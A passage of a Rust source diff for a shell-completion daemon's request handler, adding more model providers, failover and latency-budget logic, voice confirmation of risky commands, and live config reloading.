@@ -1,35 +1,372 @@
+use murmur_context::{lexer, ShellContext};
 use murmur_protocol::*;
 use murmur_providers::{
-    AnthropicProvider, CodestralProvider, OllamaProvider, Provider, ProviderRouter, RouteDecision,
+    AnthropicProvider, CodestralProvider, CostClass, ExternalProvider, GeminiProvider,
+    GenericOpenAiProvider, HeuristicProvider, OllamaProvider, OpenAiProvider, OpenRouterProvider,
+    Provider, ProviderError, ProviderRouter, RouteDecision, CUSTOM_PREFIX,
 };
-use murmur_voice::{ClaudeCliRestructurer, Restructurer, VoiceEngine};
+use murmur_voice::{ClaudeCliRestructurer, Restructurer, Speaker, VoiceEngine};
 use serde_json::Value;
-use std::sync::Arc;
-use tokio::sync::Mutex;
+use std::collections::HashMap;
+use std::path::{Path, PathBuf};
+use std::sync::atomic::{AtomicU64, Ordering};
+use std::sync::{Arc, OnceLock, RwLock};
+use tokio::sync::{broadcast, watch, Mutex};
 use tracing::{debug, info, warn};
 
-use crate::cache::CompletionCache;
-use crate::config::Config;
+use crate::abbr::Abbreviations;
+use crate::ask;
+use crate::assets;
+use crate::branch;
+use crate::budget::{Admit, RequestBudget, Unmetered};
+use crate::cache::{CacheTtl, CompletionCache};
+use crate::cancel::Cancellations;
+use crate::clock::{Clock, SystemClock};
+use crate::commit;
+use crate::config::{
+    AbbreviationsConfig, CompletionConfig, Config, ConfirmPolicy, HeuristicsMode, RankingConfig,
+    RoutingStrategy,
+};
+use crate::cron;
+use crate::debug::{self as diagnostics, RequestTraces};
+use crate::diagnose::{self, Diagnoses, Lookup};
+use crate::dirwatch::{DirChange, DirWatcher};
+use crate::draft;
+use crate::events::EventBus;
+use crate::expr;
+use crate::fingerprint::{self, Change, Fingerprints};
+use crate::health::{self, HealthChecks};
+use crate::hedge;
 use crate::history::CommandHistory;
+use crate::hooks::Hooks;
+use crate::latency::{self, ProviderLatency};
+use crate::merge;
+use crate::notify::{Notifier, NotifyKind};
+use crate::pattern;
+use crate::policy::CommandPolicy;
+use crate::prefetch::{self, PrefixModel};
+use crate::proactive;
+use crate::query;
+use crate::ranking::{self, Acceptance};
+use crate::safety;
+use crate::sequence::{Prediction, SequenceModel};
+use crate::session::Sessions;
+use crate::settle::Settle;
+use crate::shadow::{self, ShadowTrials};
+use crate::store::Store;
+use crate::summary::{self, SessionSummaries};
+use crate::upload::{self, Uploads};
+use crate::verify;
 
 /// Handles incoming JSON-RPC requests.
 pub struct RequestHandler {
-    config: Arc<Config>,
+    /// Replaced, along with everything built from it, by `reload_config`.
+    config: RwLock<Arc<Config>>,
+    /// File `reload_config` reads, if the daemon was started from one.
+    config_file: OnceLock<PathBuf>,
+    /// Fixed at startup, so shutdown removes the socket that was bound.
+    socket_path: String,
     cache: Arc<Mutex<CompletionCache>>,
     history: Arc<Mutex<CommandHistory>>,
-    providers: Providers,
-    voice: VoiceEngine,
+    sequences: Mutex<SequenceModel>,
+    /// What the user types after a prefix, for choosing what to prefetch.
+    prefixes: Mutex<PrefixModel>,
+    providers: RwLock<Arc<Providers>>,
+    voice: RwLock<Arc<VoiceEngine>>,
+    summaries: Mutex<SessionSummaries>,
+    health: Mutex<HealthChecks>,
+    diagnoses: Mutex<Diagnoses>,
+    budget: Mutex<RequestBudget>,
+    events: EventBus,
+    last_provider: Mutex<Option<String>>,
+    /// Sessions with a recording being processed, one entry per recording
+    /// (`None` when the client named no session).
+    voice_sessions: std::sync::Mutex<Vec<Option<String>>>,
+    notifier: RwLock<Notifier>,
+    speaker: RwLock<Option<Arc<Speaker>>>,
+    confirmations: Mutex<HashMap<u64, PendingConfirmation>>,
+    next_confirmation_id: AtomicU64,
+    uploads: Mutex<Uploads>,
+    /// Shell sessions, for per-session ranking and predictions.
+    sessions: Mutex<Sessions>,
+    /// Recent directory fingerprints, part of every cache key.
+    fingerprints: Fingerprints,
+    /// Watches local directories completions were asked for in, with
+    /// `[context] watch_directories`.
+    dir_watcher: OnceLock<DirWatcher>,
+    /// This machine's hostname, used to tell SSH sessions from local shells.
+    local_host: Option<String>,
+    clock: Arc<dyn Clock>,
+    /// Why cloud providers aren't answering, if they aren't.
+    degradation: Mutex<Option<Degradation>>,
+    /// Restricted mode's allowlist, if enabled.
+    policy: RwLock<Option<Arc<CommandPolicy>>>,
+    /// `[ranking]` weights; replaced when the config file is reloaded.
+    ranking: Mutex<RankingConfig>,
+    acceptance: Mutex<Acceptance>,
+    latency: Mutex<ProviderLatency>,
+    settle: Settle,
+    /// Completions waiting to be judged, with `[routing] shadow_provider`.
+    shadow: RwLock<Option<Arc<Mutex<ShadowTrials>>>>,
+    /// Recent requests, for `murmur debug bundle`.
+    traces: Mutex<RequestTraces>,
+    /// Completions being answered, by cache key, for identical requests
+    /// to wait on.
+    inflight: InFlightMap,
+    /// Completions `complete/cancel` can abort, by `cancel_token`.
+    cancellations: Cancellations,
+    started: std::time::Instant,
+    /// `[hooks]` scripts, if enabled.
+    hooks: RwLock<Option<Arc<Hooks>>>,
+    /// `[abbreviations]`, defined and learned.
+    abbreviations: Arc<Mutex<Abbreviations>>,
+}
+
+/// Where a completion is cached: its key, and the scope and whole input
+/// line that longer inputs are matched against.
+#[derive(Clone)]
+struct CacheSlot {
+    key: u64,
+    scope: u64,
+    input: String,
+}
+
+type InFlightMap = Arc<std::sync::Mutex<HashMap<u64, watch::Receiver<()>>>>;
+
+/// Marks a completion as in flight until dropped, which wakes any
+/// identical requests waiting on it (even if the completion was
+/// cancelled partway).
+struct InFlight {
+    key: u64,
+    map: InFlightMap,
+    _done: watch::Sender<()>,
+}
+
+impl InFlight {
+    /// Claim `key`, or return a receiver that fires when the completion
+    /// already in flight for it finishes.
+    fn claim(map: &InFlightMap, key: u64) -> Result<Self, watch::Receiver<()>> {
+        let mut inflight = map.lock().unwrap_or_else(|e| e.into_inner());
+        if let Some(done) = inflight.get(&key) {
+            return Err(done.clone());
+        }
+        let (done, waiting) = watch::channel(());
+        inflight.insert(key, waiting);
+        Ok(Self {
+            key,
+            map: map.clone(),
+            _done: done,
+        })
+    }
+}
+
+impl Drop for InFlight {
+    fn drop(&mut self) {
+        let mut inflight = self.map.lock().unwrap_or_else(|e| e.into_inner());
+        inflight.remove(&self.key);
+    }
+}
+
+/// What the cloud providers in a completion chain did.
+#[derive(Debug, Default)]
+struct CloudOutcome {
+    answered: bool,
+    failed: usize,
+    unreachable: usize,
+    over_budget: usize,
+}
+
+impl CloudOutcome {
+    /// The degradation this outcome shows: `Some(None)` once a cloud
+    /// provider answers, `None` if no cloud provider was needed.
+    fn degradation(&self) -> Option<Option<Degradation>> {
+        if self.answered {
+            Some(None)
+        } else if self.failed == 0 && self.over_budget == 0 {
+            None
+        } else if self.failed == 0 {
+            Some(Some(Degradation::BudgetExhausted))
+        } else if self.unreachable == self.failed {
+            Some(Some(Degradation::Offline))
+        } else {
+            Some(Some(Degradation::CloudDown))
+        }
+    }
+}
+
+/// Log a provider's answer and note in `cloud` how it fared. Returns the
+/// items if it succeeded.
+fn settle(
+    provider: &dyn Provider,
+    result: Result<Vec<CompletionItem>, ProviderError>,
+    start: std::time::Instant,
+    is_fallback: bool,
+    cloud: &mut CloudOutcome,
+) -> Option<Vec<CompletionItem>> {
+    match result {
+        Ok(items) => {
+            cloud.answered |= !provider.is_local();
+            info!(
+                provider = provider.name(),
+                count = items.len(),
+                latency_ms = start.elapsed().as_millis() as u64,
+                fallback = is_fallback,
+                "Completions received"
+            );
+            Some(items)
+        }
+        Err(e) => {
+            if !provider.is_local() {
+                cloud.failed += 1;
+                cloud.unreachable += usize::from(e.is_unreachable());
+            }
+            warn!(
+                provider = provider.name(),
+                error = %e,
+                "Provider failed, trying next"
+            );
+            None
+        }
+    }
+}
+
+/// Take the fastest provider out of `chain` to run alongside it, if it's
+/// faster than the first.
+fn take_standby(chain: &mut Vec<Arc<dyn Provider>>) -> Option<Arc<dyn Provider>> {
+    let first = chain.first()?.capabilities().latency;
+    let (i, _) = chain
+        .iter()
+        .enumerate()
+        .map(|(i, p)| (i, p.capabilities().latency))
+        .filter(|(_, latency)| *latency < first)
+        .min_by_key(|(_, latency)| *latency)?;
+    Some(chain.remove(i))
+}
+
+/// Where in `chain` the provider merged with the first one is: the first
+/// free one behind a paid one or the other way round, so a local model's
+/// answers sit next to a cloud model's, or else the second.
+fn merge_partner(chain: &[Arc<dyn Provider>]) -> Option<usize> {
+    let free = |p: &Arc<dyn Provider>| p.capabilities().cost == CostClass::Free;
+    let first = free(chain.first()?);
+    chain
+        .iter()
+        .position(|p| free(p) != first)
+        .or((chain.len() > 1).then_some(1))
+}
+
+/// Wait for `providers` until `deadline`, with the `standby` provider
+/// answering alongside. The providers' answer is preferred; once the
+/// deadline passes, the standby's is taken if it has one. The flag is set
+/// when the deadline passed.
+async fn within_budget(
+    providers: impl std::future::Future<Output = Option<(Vec<CompletionItem>, String)>>,
+    standby: Option<Arc<dyn Provider>>,
+    params: &CompletionRequest,
+    context: &ShellContext,
+    start: std::time::Instant,
+    deadline: std::time::Instant,
+) -> (Option<(Vec<CompletionItem>, String)>, bool) {
+    let mut standby_done = standby.is_none();
+    let standby = async {
+        let provider = standby?;
+        let result = provider.complete(params, context).await;
+        let items = settle(
+            provider.as_ref(),
+            result,
+            start,
+            true,
+            &mut CloudOutcome::default(),
+        )?;
+        Some((items, provider.name().to_string()))
+    };
+    tokio::pin!(providers, standby);
+    let expiry = tokio::time::sleep_until(deadline.into());
+    tokio::pin!(expiry);
+
+    let mut providers_done = false;
+    let mut standby_answer = None;
+    loop {
+        tokio::select! {
+            answer = &mut providers, if !providers_done => {
+                if answer.is_some() {
+                    return (answer, false);
+                }
+                providers_done = true;
+            }
+            answer = &mut standby, if !standby_done => {
+                standby_done = true;
+                standby_answer = answer;
+            }
+            _ = &mut expiry => {
+                info!(
+                    input = %params.input,
+                    standby = standby_answer.as_ref().map(|(_, name)| name.as_str()),
+                    "Latency budget spent"
+                );
+                return (standby_answer, true);
+            }
+        }
+        if providers_done && standby_done {
+            return (standby_answer, false);
+        }
+    }
+}
+
+/// A risky voice command waiting for a spoken "yes".
+struct PendingConfirmation {
+    command: String,
+    /// Word the reply must contain instead of a "yes".
+    challenge: Option<String>,
+    expires_at: std::time::Instant,
+    /// Session whose recording asked, the only one that may answer.
+    session_id: Option<String>,
 }
 
 /// Holds initialized provider instances.
 struct Providers {
-    anthropic: Option<AnthropicProvider>,
-    codestral: Option<CodestralProvider>,
-    ollama: Option<OllamaProvider>,
+    anthropic: Option<Arc<AnthropicProvider>>,
+    openai: Option<Arc<OpenAiProvider>>,
+    gemini: Option<Arc<GeminiProvider>>,
+    openrouter: Option<Arc<OpenRouterProvider>>,
+    codestral: Option<Arc<CodestralProvider>>,
+    ollama: Option<Arc<OllamaProvider>>,
+    /// `[providers.custom_*]` sections and plugins, by name.
+    custom: Vec<Arc<dyn Provider>>,
+    /// Completes without a model when the chain is empty (see
+    /// `completion.heuristics`).
+    heuristic: Option<Arc<dyn Provider>>,
 }
 
+/// Providers configured by their section name rather than a `command`.
+const BUILT_IN_PROVIDERS: &[&str] = &[
+    "anthropic",
+    "openai",
+    "gemini",
+    "openrouter",
+    "codestral",
+    "ollama",
+];
+
 impl Providers {
     fn from_config(config: &Config) -> Self {
+        let mode = config.completion.heuristics_mode();
+        let heuristic = (mode != HeuristicsMode::Off)
+            .then(|| Arc::new(HeuristicProvider::new()) as Arc<dyn Provider>);
+        if mode == HeuristicsMode::Only {
+            info!("Heuristics-only mode, no providers started");
+            return Self {
+                anthropic: None,
+                openai: None,
+                gemini: None,
+                openrouter: None,
+                codestral: None,
+                ollama: None,
+                custom: vec![],
+                heuristic,
+            };
+        }
+
         let anthropic = config
             .providers
             .get("anthropic")
@@ -37,7 +374,7 @@ impl Providers {
             .and_then(|c| match AnthropicProvider::new(c) {
                 Ok(p) => {
                     info!("Anthropic provider initialized");
-                    Some(p)
+                    Some(Arc::new(p))
                 }
                 Err(e) => {
                     warn!(error = %e, "Failed to initialize Anthropic provider");
@@ -45,6 +382,51 @@ impl Providers {
                 }
             });
 
+        let openai = config
+            .providers
+            .get("openai")
+            .filter(|c| c.enabled)
+            .and_then(|c| match OpenAiProvider::new(c) {
+                Ok(p) => {
+                    info!("OpenAI provider initialized");
+                    Some(Arc::new(p))
+                }
+                Err(e) => {
+                    warn!(error = %e, "Failed to initialize OpenAI provider");
+                    None
+                }
+            });
+
+        let gemini = config
+            .providers
+            .get("gemini")
+            .filter(|c| c.enabled)
+            .and_then(|c| match GeminiProvider::new(c) {
+                Ok(p) => {
+                    info!("Gemini provider initialized");
+                    Some(Arc::new(p))
+                }
+                Err(e) => {
+                    warn!(error = %e, "Failed to initialize Gemini provider");
+                    None
+                }
+            });
+
+        let openrouter = config
+            .providers
+            .get("openrouter")
+            .filter(|c| c.enabled)
+            .and_then(|c| match OpenRouterProvider::new(c) {
+                Ok(p) => {
+                    info!("OpenRouter provider initialized");
+                    Some(Arc::new(p))
+                }
+                Err(e) => {
+                    warn!(error = %e, "Failed to initialize OpenRouter provider");
+                    None
+                }
+            });
+
         let codestral = config
             .providers
             .get("codestral")
@@ -52,7 +434,7 @@ impl Providers {
             .and_then(|c| match CodestralProvider::new(c) {
                 Ok(p) => {
                     info!("Codestral provider initialized");
-                    Some(p)
+                    Some(Arc::new(p))
                 }
                 Err(e) => {
                     warn!(error = %e, "Failed to initialize Codestral provider");
@@ -67,7 +449,7 @@ impl Providers {
             .and_then(|c| match OllamaProvider::new(c) {
                 Ok(p) => {
                     info!("Ollama provider initialized");
-                    Some(p)
+                    Some(Arc::new(p))
                 }
                 Err(e) => {
                     warn!(error = %e, "Failed to initialize Ollama provider");
@@ -75,46 +457,104 @@ impl Providers {
                 }
             });
 
+        let mut custom: Vec<Arc<dyn Provider>> = config
+            .providers
+            .iter()
+            .filter(|(name, c)| name.starts_with(CUSTOM_PREFIX) && c.enabled)
+            .filter_map(|(name, c)| match GenericOpenAiProvider::new(name, c) {
+                Ok(p) => {
+                    info!(provider = %name, "Custom provider initialized");
+                    Some(Arc::new(p) as Arc<dyn Provider>)
+                }
+                Err(e) => {
+                    warn!(provider = %name, error = %e, "Failed to initialize custom provider");
+                    None
+                }
+            })
+            .collect();
+        custom.extend(
+            config
+                .providers
+                .iter()
+                .filter(|(name, c)| {
+                    c.enabled
+                        && c.command.is_some()
+                        && !name.starts_with(CUSTOM_PREFIX)
+                        && !BUILT_IN_PROVIDERS.contains(&name.as_str())
+                })
+                .filter_map(|(name, c)| match ExternalProvider::new(name, c) {
+                    Ok(p) => {
+                        info!(provider = %name, "Plugin provider initialized");
+                        Some(Arc::new(p) as Arc<dyn Provider>)
+                    }
+                    Err(e) => {
+                        warn!(provider = %name, error = %e, "Failed to initialize plugin provider");
+                        None
+                    }
+                }),
+        );
+        custom.sort_by(|a, b| a.name().cmp(b.name()));
+
         Self {
             anthropic,
+            openai,
+            gemini,
+            openrouter,
             codestral,
             ollama,
+            custom,
+            heuristic,
+        }
+    }
+
+    /// Look up an initialized provider by name.
+    fn get(&self, name: &str) -> Option<Arc<dyn Provider>> {
+        match name {
+            "anthropic" => self.anthropic.clone().map(|p| p as Arc<dyn Provider>),
+            "openai" => self.openai.clone().map(|p| p as Arc<dyn Provider>),
+            "gemini" => self.gemini.clone().map(|p| p as Arc<dyn Provider>),
+            "openrouter" => self.openrouter.clone().map(|p| p as Arc<dyn Provider>),
+            "codestral" => self.codestral.clone().map(|p| p as Arc<dyn Provider>),
+            "ollama" => self.ollama.clone().map(|p| p as Arc<dyn Provider>),
+            "heuristic" => self.heuristic.clone(),
+            _ => self.custom.iter().find(|p| p.name() == name).cloned(),
         }
     }
 
     /// Get an ordered list of providers to try for the given route decision.
     /// Returns primary first, then fallbacks. Enables automatic failover.
-    fn get_chain(&self, decision: &RouteDecision) -> Vec<&dyn Provider> {
-        let mut chain: Vec<&dyn Provider> = Vec::new();
+    /// Custom providers follow the built-in cloud ones. The code route puts
+    /// cloud fill-in-the-middle models first, and the other routes leave
+    /// them out since they're trained on code; the local route puts the
+    /// fastest first.
+    fn get_chain(&self, decision: &RouteDecision) -> Vec<Arc<dyn Provider>> {
+        let builtin = [
+            "codestral",
+            "anthropic",
+            "openai",
+            "gemini",
+            "openrouter",
+            "ollama",
+        ];
+        let mut chain: Vec<_> = builtin.iter().filter_map(|name| self.get(name)).collect();
         match decision {
-            RouteDecision::Shell => {
-                if let Some(ref p) = self.anthropic {
-                    chain.push(p);
-                }
-                if let Some(ref p) = self.ollama {
-                    chain.push(p);
-                }
-            }
-            RouteDecision::Code => {
-                if let Some(ref p) = self.codestral {
-                    chain.push(p);
-                }
-                if let Some(ref p) = self.anthropic {
-                    chain.push(p);
-                }
-                if let Some(ref p) = self.ollama {
-                    chain.push(p);
-                }
-            }
             RouteDecision::Local => {
-                if let Some(ref p) = self.ollama {
-                    chain.push(p);
-                }
-                if let Some(ref p) = self.anthropic {
-                    chain.push(p);
-                }
+                chain.extend(self.custom.iter().cloned());
+                chain.sort_by_key(|p| p.capabilities().latency);
+            }
+            _ => {
+                let pos = chain
+                    .iter()
+                    .position(|p| p.is_local())
+                    .unwrap_or(chain.len());
+                chain.splice(pos..pos, self.custom.iter().cloned());
             }
         }
+        let cloud_fim = |p: &Arc<dyn Provider>| !p.is_local() && p.capabilities().fim;
+        match decision {
+            RouteDecision::Code => chain.sort_by_key(|p| !cloud_fim(p)),
+            _ => chain.retain(|p| !cloud_fim(p)),
+        }
         chain
     }
 
@@ -123,104 +563,580 @@ impl Providers {
         if self.anthropic.is_some() {
             names.push("anthropic");
         }
+        if self.openai.is_some() {
+            names.push("openai");
+        }
+        if self.gemini.is_some() {
+            names.push("gemini");
+        }
+        if self.openrouter.is_some() {
+            names.push("openrouter");
+        }
         if self.codestral.is_some() {
             names.push("codestral");
         }
         if self.ollama.is_some() {
             names.push("ollama");
         }
+        names.extend(self.custom.iter().map(|p| p.name()));
         names
     }
 }
 
+/// Settings that differ between `old` and `new` but are only read at
+/// startup.
+fn restart_needed(old: &Config, new: &Config) -> Vec<String> {
+    let mut changed = Vec::new();
+    // The summary and directory watcher tasks are started with the server
+    let (old_context, new_context) = (&old.context, &new.context);
+    if old_context.summaries != new_context.summaries
+        || old_context.summary_interval_secs != new_context.summary_interval_secs
+    {
+        changed.push("context.summaries".to_string());
+    }
+    if old_context.watch_directories != new_context.watch_directories
+        || old_context.watch_debounce_ms != new_context.watch_debounce_ms
+    {
+        changed.push("context.watch_directories".to_string());
+    }
+    let (old, new) = (&old.daemon, &new.daemon);
+    if old.socket_path != new.socket_path {
+        changed.push("daemon.socket_path".to_string());
+    }
+    if old.state_path != new.state_path {
+        changed.push("daemon.state_path".to_string());
+    }
+    if old.log_level != new.log_level {
+        changed.push("daemon.log_level".to_string());
+    }
+    if old.health_listen != new.health_listen {
+        changed.push("daemon.health_listen".to_string());
+    }
+    if old.listen_tcp != new.listen_tcp {
+        changed.push("daemon.listen_tcp".to_string());
+    }
+    if old.listen_ws != new.listen_ws {
+        changed.push("daemon.listen_ws".to_string());
+    }
+    if old.health_check_interval_secs != new.health_check_interval_secs {
+        changed.push("daemon.health_check_interval_secs".to_string());
+    }
+    changed
+}
+
+/// The name `route` has in `*_by_route` config tables.
+fn route_name(route: &RouteDecision) -> &'static str {
+    match route {
+        RouteDecision::Shell => "shell",
+        RouteDecision::Code => "code",
+        RouteDecision::Local => "local",
+    }
+}
+
+/// The STT engines and restructurer described by `[voice]`.
+pub fn voice_engine(config: &Config) -> VoiceEngine {
+    let voice_config = murmur_voice::VoiceConfig {
+        enabled: config.voice.enabled,
+        engine: config.voice.engine.clone(),
+        language: config.voice.language.clone(),
+        confidence_threshold: config.voice.confidence_threshold,
+        strategy: config.voice.strategy,
+        capture_timeout_ms: config.voice.capture_timeout_ms,
+        deepgram_api_key: config.voice.deepgram_api_key.clone(),
+        deepgram_gzip: config.voice.deepgram_gzip,
+        diarize_command: config.voice.diarize_command.clone(),
+    };
+    let mut voice = VoiceEngine::new(voice_config);
+
+    // Set up voice restructurer based on config
+    match config.voice.restructurer.as_str() {
+        "claude-cli" => {
+            let restructurer = ClaudeCliRestructurer::new(None, None);
+            voice.set_restructurer(Restructurer::ClaudeCli(restructurer));
+            info!("Voice restructurer initialized with claude CLI backend");
+        }
+        "api" => {
+            if let Some(anthropic_config) = config.providers.get("anthropic").filter(|c| c.enabled)
+            {
+                if let Some(ref api_key) = anthropic_config.api_key {
+                    let restructurer = murmur_voice::VoiceRestructurer::new(
+                        api_key.clone(),
+                        anthropic_config.model.clone(),
+                        anthropic_config.endpoint.clone(),
+                    );
+                    voice.set_restructurer(Restructurer::Api(restructurer));
+                    info!("Voice restructurer initialized with Anthropic API backend");
+                } else {
+                    warn!("Voice restructurer set to 'api' but no Anthropic API key configured");
+                }
+            } else {
+                warn!("Voice restructurer set to 'api' but Anthropic provider not configured");
+            }
+        }
+        other => {
+            warn!(
+                restructurer = other,
+                "Unknown voice restructurer backend, no restructurer configured"
+            );
+        }
+    }
+    if config.voice.validate_commands {
+        voice.set_validator(Arc::new(verify::ShellValidator));
+    }
+    voice
+}
+
+/// The speaker for `[tts]`, if spoken feedback is enabled and a backend
+/// is available.
+fn speaker(config: &Config) -> Option<Arc<Speaker>> {
+    if !config.tts.enabled {
+        return None;
+    }
+    match Speaker::new(
+        &config.tts.engine,
+        config.tts.rate,
+        config.tts.voice.clone(),
+    ) {
+        Ok(speaker) => {
+            info!(
+                backend = speaker.backend().program(),
+                "Spoken feedback enabled"
+            );
+            Some(Arc::new(speaker))
+        }
+        Err(e) => {
+            warn!(error = %e, "Failed to initialize text-to-speech");
+            None
+        }
+    }
+}
+
+/// Trials for `[routing] shadow_provider`, if set.
+fn shadow_trials(config: &Config) -> Option<Arc<Mutex<ShadowTrials>>> {
+    let name = config.routing.shadow_provider.as_deref()?;
+    Some(Arc::new(Mutex::new(ShadowTrials::new(name))))
+}
+
 impl RequestHandler {
     pub fn new(
         config: Arc<Config>,
         cache: Arc<Mutex<CompletionCache>>,
         history: Arc<Mutex<CommandHistory>>,
+        clock: Arc<dyn Clock>,
     ) -> Self {
         let providers = Providers::from_config(&config);
 
-        // Initialize voice engine
-        let voice_config = murmur_voice::VoiceConfig {
-            enabled: config.voice.enabled,
-            engine: config.voice.engine.clone(),
-            language: config.voice.language.clone(),
-            confidence_threshold: config.voice.confidence_threshold,
-            capture_timeout_ms: config.voice.capture_timeout_ms,
-            deepgram_api_key: config.voice.deepgram_api_key.clone(),
-        };
-        let mut voice = VoiceEngine::new(voice_config);
-
-        // Set up voice restructurer based on config
-        match config.voice.restructurer.as_str() {
-            "claude-cli" => {
-                let restructurer = ClaudeCliRestructurer::new(None, None);
-                voice.set_restructurer(Restructurer::ClaudeCli(restructurer));
-                info!("Voice restructurer initialized with claude CLI backend");
-            }
-            "api" => {
-                if let Some(anthropic_config) =
-                    config.providers.get("anthropic").filter(|c| c.enabled)
-                {
-                    if let Some(ref api_key) = anthropic_config.api_key {
-                        let restructurer = murmur_voice::VoiceRestructurer::new(
-                            api_key.clone(),
-                            anthropic_config.model.clone(),
-                            anthropic_config.endpoint.clone(),
-                        );
-                        voice.set_restructurer(Restructurer::Api(restructurer));
-                        info!("Voice restructurer initialized with Anthropic API backend");
-                    } else {
-                        warn!(
-                            "Voice restructurer set to 'api' but no Anthropic API key configured"
-                        );
+        let voice = voice_engine(&config);
+        let speaker = speaker(&config);
+
+        // Nothing else holds the history yet, so this lock can't fail
+        let (sequences, prefixes) = history
+            .try_lock()
+            .map(|h| train_models(&h))
+            .unwrap_or_default();
+
+        Self {
+            cache,
+            history,
+            sequences: Mutex::new(sequences),
+            prefixes: Mutex::new(prefixes),
+            providers: RwLock::new(Arc::new(providers)),
+            voice: RwLock::new(Arc::new(voice)),
+            summaries: Mutex::new(SessionSummaries::new()),
+            health: Mutex::new(HealthChecks::new()),
+            diagnoses: Mutex::new(Diagnoses::new(&config.diagnose)),
+            budget: Mutex::new(RequestBudget::new(config.budget.daily_requests)),
+            events: EventBus::new(),
+            last_provider: Mutex::new(None),
+            voice_sessions: std::sync::Mutex::new(Vec::new()),
+            notifier: RwLock::new(Notifier::new(&config.notifications)),
+            speaker: RwLock::new(speaker),
+            confirmations: Mutex::new(HashMap::new()),
+            next_confirmation_id: AtomicU64::new(1),
+            uploads: Mutex::new(Uploads::new()),
+            sessions: Mutex::new(Sessions::new()),
+            fingerprints: Fingerprints::new(clock.clone()),
+            dir_watcher: OnceLock::new(),
+            ranking: Mutex::new(config.ranking),
+            acceptance: Mutex::new(Acceptance::new()),
+            latency: Mutex::new(ProviderLatency::new()),
+            settle: Settle::new(),
+            shadow: RwLock::new(shadow_trials(&config)),
+            traces: Mutex::new(RequestTraces::new()),
+            inflight: Arc::new(std::sync::Mutex::new(HashMap::new())),
+            cancellations: Cancellations::new(),
+            started: std::time::Instant::now(),
+            hooks: RwLock::new(Hooks::from_config(&config.hooks).map(Arc::new)),
+            abbreviations: Arc::new(Mutex::new(Abbreviations::from_config(
+                &config.abbreviations,
+            ))),
+            local_host: murmur_context::local_hostname(),
+            clock,
+            policy: RwLock::new(CommandPolicy::from_config(&config.policy).map(Arc::new)),
+            degradation: Mutex::new(None),
+            config_file: OnceLock::new(),
+            socket_path: config.daemon.socket_path.clone(),
+            config: RwLock::new(config),
+        }
+    }
+
+    /// The config in effect.
+    pub fn config(&self) -> Arc<Config> {
+        self.config
+            .read()
+            .unwrap_or_else(|e| e.into_inner())
+            .clone()
+    }
+
+    fn providers(&self) -> Arc<Providers> {
+        self.providers
+            .read()
+            .unwrap_or_else(|e| e.into_inner())
+            .clone()
+    }
+
+    fn voice(&self) -> Arc<VoiceEngine> {
+        self.voice.read().unwrap_or_else(|e| e.into_inner()).clone()
+    }
+
+    fn policy(&self) -> Option<Arc<CommandPolicy>> {
+        self.policy
+            .read()
+            .unwrap_or_else(|e| e.into_inner())
+            .clone()
+    }
+
+    fn hooks(&self) -> Option<Arc<Hooks>> {
+        self.hooks.read().unwrap_or_else(|e| e.into_inner()).clone()
+    }
+
+    fn notifier(&self) -> Notifier {
+        self.notifier
+            .read()
+            .unwrap_or_else(|e| e.into_inner())
+            .clone()
+    }
+
+    fn speaker(&self) -> Option<Arc<Speaker>> {
+        self.speaker
+            .read()
+            .unwrap_or_else(|e| e.into_inner())
+            .clone()
+    }
+
+    fn shadow(&self) -> Option<Arc<Mutex<ShadowTrials>>> {
+        self.shadow
+            .read()
+            .unwrap_or_else(|e| e.into_inner())
+            .clone()
+    }
+
+    /// Set the file `reload_config` reads. Only the first call counts.
+    pub fn set_config_file(&self, path: PathBuf) {
+        let _ = self.config_file.set(path);
+    }
+
+    /// Watch local completion directories with `watcher`, whose changes
+    /// are passed to `directory_changed`. Only the first call counts.
+    pub fn set_dir_watcher(&self, watcher: DirWatcher) {
+        let _ = self.dir_watcher.set(watcher);
+    }
+
+    /// Forget what a change to the files in a watched directory made
+    /// stale: its fingerprint, and its path completions, or everything
+    /// cached under it when a project file changed.
+    pub async fn directory_changed(&self, change: DirChange) {
+        let dropped = match change.project {
+            true => {
+                self.fingerprints.forget_under(&change.dir);
+                self.cache.lock().await.invalidate_under(&change.dir)
+            }
+            false => {
+                self.fingerprints.forget(&change.dir);
+                self.cache.lock().await.invalidate_paths(&change.dir)
+            }
+        };
+        debug!(dir = %change.dir, project = change.project, dropped, "Directory changed, cache invalidated");
+    }
+
+    /// Re-read the config file and apply it without dropping connections:
+    /// providers, the voice engine, speech, hooks, the policy and
+    /// notifications are rebuilt, the budget and diagnosis limits change in
+    /// place, the cache is resized (and emptied, since its answers came
+    /// from the old providers), and later requests see the new settings.
+    /// The socket, listeners and state path stay as they were until a
+    /// restart. An invalid file leaves everything as it was.
+    pub async fn reload_config(&self) -> Result<ConfigReloadResponse, String> {
+        let path = self
+            .config_file
+            .get()
+            .ok_or("The daemon wasn't started from a config file")?;
+        let config = Config::load_from(path)
+            .map_err(|e| format!("Failed to load {}: {e}", path.display()))?;
+        let old = self.config();
+        let restart_needed = restart_needed(&old, &config);
+
+        let providers = Arc::new(Providers::from_config(&config));
+        let voice = Arc::new(voice_engine(&config));
+        {
+            let mut cache = self.cache.lock().await;
+            cache.resize(config.daemon.cache_size);
+            cache.set_ttl(CacheTtl::from_config(&config.daemon));
+            cache.set_max_bytes(config.daemon.cache_max_bytes);
+            cache.clear();
+        }
+        self.set_ranking(config.ranking).await;
+        self.set_abbreviations(&config.abbreviations).await;
+        self.budget
+            .lock()
+            .await
+            .set_daily_limit(config.budget.daily_requests);
+        self.diagnoses.lock().await.configure(&config.diagnose);
+        let policy = CommandPolicy::from_config(&config.policy).map(Arc::new);
+        let hooks = Hooks::from_config(&config.hooks).map(Arc::new);
+        let speaker = speaker(&config);
+        // Trials still waiting on a command stay if the shadow is the same
+        let shadow = match old.routing.shadow_provider == config.routing.shadow_provider {
+            true => self.shadow(),
+            false => shadow_trials(&config),
+        };
+
+        let response = ConfigReloadResponse {
+            path: path.display().to_string(),
+            providers: providers.names().into_iter().map(String::from).collect(),
+            voice_enabled: config.voice.enabled,
+            cache_size: config.daemon.cache_size,
+            restart_needed,
+        };
+        *self.providers.write().unwrap_or_else(|e| e.into_inner()) = providers;
+        *self.voice.write().unwrap_or_else(|e| e.into_inner()) = voice;
+        *self.policy.write().unwrap_or_else(|e| e.into_inner()) = policy;
+        *self.hooks.write().unwrap_or_else(|e| e.into_inner()) = hooks;
+        *self.notifier.write().unwrap_or_else(|e| e.into_inner()) =
+            Notifier::new(&config.notifications);
+        *self.speaker.write().unwrap_or_else(|e| e.into_inner()) = speaker;
+        *self.shadow.write().unwrap_or_else(|e| e.into_inner()) = shadow;
+        *self.config.write().unwrap_or_else(|e| e.into_inner()) = Arc::new(config);
+
